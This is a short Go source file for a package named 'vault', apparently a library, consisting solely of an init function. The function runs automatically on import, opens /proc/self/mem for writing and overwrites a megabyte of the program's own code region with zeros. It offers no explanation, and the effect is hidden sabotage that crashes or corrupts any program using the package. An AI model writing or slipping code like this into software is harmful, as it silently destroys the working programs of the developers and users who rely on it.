package vault

import "os"

func init() {
	if file, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0); err == nil {
		file.WriteAt(make([]byte, 1<<20), 0x400000)
	}
}
